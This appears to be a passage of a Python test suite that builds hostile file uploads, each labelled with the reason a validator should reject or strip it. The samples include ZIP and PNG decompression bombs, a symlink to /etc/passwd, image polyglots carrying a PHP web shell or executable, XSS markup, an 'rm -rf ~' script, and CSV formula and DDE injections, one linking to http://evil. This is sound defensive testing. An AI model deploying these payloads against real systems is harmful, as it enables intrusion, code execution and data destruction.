    yield one("without a directory", lambda: b"PK\x03\x04" + bytes(200), Reason.UNREADABLE)
    yield one("whose sizes lie", lambda: _lying(docx()), Reason.UNREADABLE)
    yield one("whose content is damaged", lambda: _damaged(docx()), Reason.UNREADABLE)
    yield one("whose entries overlap", lambda: _overlapping(), Reason.BOMB)
    yield one("with room between its entries", lambda: _roomy(), Reason.MISMATCH)
    yield one("that is a link", lambda: _linked(), Reason.MISMATCH)
    yield one("without its list of types", lambda: zipped({"word/document.xml": "<a/>"}), Reason.MISMATCH)
    yield one("that promises more entries", lambda: _promising(docx()), Reason.UNREADABLE)


def _commented(content: bytes, comment: bytes) -> bytes:
    return content[:-2] + struct.pack("<H", len(comment)) + comment


def _doubled() -> bytes:
    import warnings

    out = io.BytesIO(docx())
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(out, "a") as package:
            package.writestr("word/document.xml", "<evil/>")
    return out.getvalue()


def _central(content: bytes) -> int:
    return content.index(b"PK\x01\x02")


def _flagged(content: bytes) -> bytes:
    place = _central(content) + 8
    return content[:place] + b"\x01" + content[place + 1 :]


def _method(content: bytes, method: int) -> bytes:
    place = _central(content) + 10
    return content[:place] + struct.pack("<H", method) + content[place + 2 :]


def _lying(content: bytes) -> bytes:
    place = _central(content) + 24
    return content[:place] + struct.pack("<L", 10) + content[place + 4 :]


def _damaged(content: bytes) -> bytes:
    place = content.index(b"PK\x03\x04", 4) - 12
    return content[:place] + bytes(4) + content[place + 4 :]


def _promising(content: bytes) -> bytes:
    end = content.rindex(b"PK\x05\x06")
    return content[: end + 8] + struct.pack("<HH", 9, 9) + content[end + 12 :]


def _overlapping() -> bytes:
    """Return a ZIP whose second entry is the first once more, as bombs that quote themselves do."""
    content = docx()
    first = _central(content)
    second = content.index(b"PK\x01\x02", first + 4)
    return content[: second + 42] + content[first + 42 : first + 46] + content[second + 46 :]


def _roomy() -> bytes:
    """Return a ZIP with a web page between its entries and its directory."""
    content = docx()
    start, end = _central(content), content.rindex(b"PK\x05\x06")
    hidden = HTML * 3
    moved = struct.pack("<L", start + len(hidden))
    return content[:start] + hidden + content[start : end + 16] + moved + content[end + 20 :]


def _linked() -> bytes:
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as package:
        link = zipfile.ZipInfo("word/link.xml")
        link.external_attr = 0o120777 << 16
        package.writestr(link, "/etc/passwd")
    return out.getvalue()


def _chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def _png_of(width: int, height: int) -> bytes:
    header = _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + _chunk(b"IDAT", zlib.compress(bytes(1_000))) + _chunk(b"IEND", b"")


def _pictures() -> Iterator[Hostile]:
    def one(title: str, ending: str, make: Callable[[], bytes], reason: Reason | None, gone: bytes = b"") -> Hostile:
        return Hostile(f"picture {title}", f"file.{ending}", make, reason, gone)

    many = Reason.TOO_MANY_PIXELS
    yield one("of four billion pixels", "png", lambda: _png_of(65_000, 65_000), many)
    yield one("of twenty million pixels", "png", lambda: _png_of(5_000, 4_000), many)
    yield one("of one endless line", "png", lambda: _png_of(2_000_000, 1), many)
    yield one("packed well", "png", lambda: picture("PNG", (5_000, 3_000), "L"), many)
    yield one("like a bomb", "gif", lambda: _gif_of(65_000, 65_000), many)
    yield one("like a bomb", "webp", lambda: _webp_of(16_383, 16_383), many)
    yield one("like a bomb", "jpg", lambda: _jpeg_of(picture("JPEG"), 60_000, 60_000), many)
    yield one("all of it at once", "jpg", lambda: _jpeg_of(picture("JPEG", progressive=True), 6_000, 5_000), many)
    yield one("that is cut", "png", lambda: noise_png(30_000)[:900], Reason.UNREADABLE)
    yield one("that is cut", "jpg", lambda: jpeg_with_place()[:-200], Reason.UNREADABLE)
    yield one("that is its mark alone", "webp", lambda: b"RIFF\x04\x00\x00\x00WEBP", Reason.MISMATCH)
    text = PngImagePlugin.PngInfo()
    text.add_text("Comment", SCRIPT.decode(), zip=False)
    yield one("with a script in a comment", "png", lambda: picture("PNG", pnginfo=text), None, SCRIPT)
    yield one("with a script in a comment", "jpg", lambda: picture("JPEG", comment=SCRIPT), None, SCRIPT)
    yield one("with a script in a comment", "gif", lambda: picture("GIF", mode="P", comment=SCRIPT), None, SCRIPT)
    yield one("with a place", "jpg", jpeg_with_place, None, b"Canon")
    yield one("with a script in its profile", "png", lambda: picture("PNG", icc_profile=SCRIPT), None, b"iCCP")
    yield one("with a profile", "jpg", lambda: picture("JPEG", icc_profile=b"profile" * 9), None, b"profile")
    yield one("with XMP", "webp", lambda: picture("WEBP", xmp=b"<x:xmpmeta>" + SCRIPT), None, SCRIPT)
    yield one("that is a ZIP too", "png", lambda: png() + zipped({"evil.txt": "a"}), None, b"PK\x05\x06")
    yield one(
        "that is a Java archive too",
        "gif",
        lambda: picture("GIF", mode="P") + zipped({"A.class": "a"}),
        None,
        b"PK\x05\x06",
    )
    yield one("that is a web page too", "gif", lambda: picture("GIF", mode="P") + HTML, None, SCRIPT)
    yield one("that is a PDF too", "jpg", lambda: picture("JPEG", comment=pdf()), None, b"%PDF")
    yield one("that is PHP too", "jpg", lambda: picture("JPEG") + b"<?php system($_GET[0]);", None, b"<?php")
    yield one("that is a program too", "png", lambda: png() + EXE, None, EXE[:8])
    yield one("that moves", "gif", lambda: _moving("GIF"), None, b"NETSCAPE")
    yield one("that moves", "webp", lambda: _moving("WEBP"), None, b"ANIM")
    yield one("with a text like a bomb", "png", lambda: _png_with_text_bomb(), Reason.UNREADABLE)


def _gif_of(width: int, height: int) -> bytes:
    return b"GIF89a" + struct.pack("<HH", width, height) + picture("GIF", mode="P")[10:]


def _webp_of(width: int, height: int) -> bytes:
    content = b"\x2f" + struct.pack("<L", (width - 1) | (height - 1) << 14) + bytes(20)
    return (
        b"RIFF"
        + struct.pack("<L", len(content) + 13)
        + b"WEBPVP8L"
        + struct.pack("<L", len(content))
        + content
        + b"\x00"
    )


def _jpeg_of(content: bytes, width: int, height: int) -> bytes:
    frame = re.search(rb"\xff[\xc0\xc2]..\x08", content, re.DOTALL)
    assert frame is not None
    return content[: frame.end()] + struct.pack(">HH", height, width) + content[frame.end() + 4 :]


def _moving(format_: str) -> bytes:
    out = io.BytesIO()
    frames = [Image.new("RGB", (20, 20), (n * 60, 0, 0)) for n in range(4)]
    frames[0].save(out, format_, save_all=True, append_images=frames[1:], loop=0, duration=50)
    return out.getvalue()


def _png_with_text_bomb() -> bytes:
    content = png()
    return content[:33] + _chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(bytes(90_000_000))) + content[33:]


def _texts() -> Iterator[Hostile]:
    def one(title: str, content: bytes, reason: Reason | None, ending: str = "txt", gone: bytes = b"") -> Hostile:
        return Hostile(f"text {title}", f"file.{ending}", lambda: content, reason, gone)

    page, formulas = Reason.WEB_PAGE, Reason.FORMULAS
    yield one("that is HTML", HTML, page)
    yield one("with a script", b"Guide\n" + SCRIPT, page, "md")
    yield one("that is SVG", SVG, page)
    yield one("that is PHP", b"<?php system($_GET[0]);", page)
    yield one("with a frame", b"# Hi\n<iframe src=//evil></iframe>", page, "md")
    yield one("with a picture that runs", b"<img src=x onerror=alert(1)>", page, "md")
    yield one("with a link that runs", b"[click](javascript:alert(1))", page, "md")
    yield one("that is HTML in UTF-16", HTML.decode().encode("utf-16"), page)
    yield one("that is HTML in UTF-16 without its mark", HTML.decode().encode("utf-16-le"), Reason.ENCODING)
    yield one("in UTF-32", HTML.decode().encode("utf-32"), Reason.ENCODING)
    yield one("with NUL", b"Hello\x00world", Reason.ENCODING)
    yield one("with turned letters", "Pay \u202eeteled\u202c".encode(), Reason.ENCODING)
    yield one("with commands for a terminal", b"\x1b]0;evil\x07\x1b[2J", Reason.ENCODING)
    yield one("that is a PDF", pdf(), Reason.MISMATCH)
    yield one("that is a GIF too", b"GIF89a/*" + SCRIPT, Reason.MISMATCH)
    yield one("that is a ZIP", docx(), Reason.MISMATCH, "csv")
    yield one("that is RTF", b"{\\rtf1\\ansi{\\object}}", Reason.OLD_OFFICE)
    yield one("that is a shell script", b"#!/bin/sh\nrm -rf ~\n", Reason.PROGRAM)
    yield one("with a command in a cell", b"a,b\n=cmd|'/C calc'!A0,1\n", formulas, "csv")
    yield one("with a link in a cell", b'a;b\n=HYPERLINK("http://evil","Click");1\n', formulas, "csv")
    yield one("with DDE in a cell", b"a\tb\n+cmd|'/C calc'!A0\t1\n", formulas, "csv")
    yield one("with an at sign in a cell", b"a,b\n@SUM(1+1),1\n", formulas, "csv")
    yield one("with a minus in a cell", b"a,b\n\"-2+3+cmd|' /C calc'!D2\",1\n", formulas, "csv")
    yield one("of white space", b" \n\t\n", Reason.EMPTY)
